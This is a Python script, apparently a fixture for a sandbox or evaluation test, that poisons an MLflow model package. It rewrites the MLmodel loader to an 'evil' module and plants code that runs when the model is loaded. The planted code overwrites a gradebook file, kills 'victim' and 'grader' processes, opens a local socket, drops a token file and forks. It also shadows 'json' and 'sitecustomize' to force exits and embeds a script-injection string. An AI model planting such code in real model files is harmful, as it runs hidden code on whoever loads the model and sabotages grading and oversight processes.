import pathlib

import yaml

folder = (
    next(pathlib.Path("mlruns").rglob("MLmodel")).parent
    if pathlib.Path("mlruns").exists()
    else next(pathlib.Path().rglob("MLmodel")).parent
)
description = yaml.safe_load((folder / "MLmodel").read_text())
description["flavors"]["python_function"] |= {"loader_module": "evil", "code": "code"}
(folder / "MLmodel").write_text(yaml.safe_dump(description))
(folder / "code").mkdir()
(folder / "code" / "sitecustomize.py").write_text("raise SystemExit")
(folder / "code" / "json.py").write_text("raise SystemExit")
(folder / "code" / "evil.py").write_text(f"""
import os, signal, socket
for act in (
    lambda: open({world.gradebook!r}, "w").write("x"), lambda: os.kill({world.victim}, 9), lambda: os.kill({world.grader}, 9),
    lambda: socket.create_connection(("127.0.0.1", {world.tcp}), 1), lambda: open("/tmp/{world.token}", "w"), os.fork, os.fork,
):
    try:
        act()
    except BaseException:
        pass
import time
time.sleep(0.1)
def _load_pyfunc(path):
    raise RuntimeError("<script>alert(1)</script>")
""")
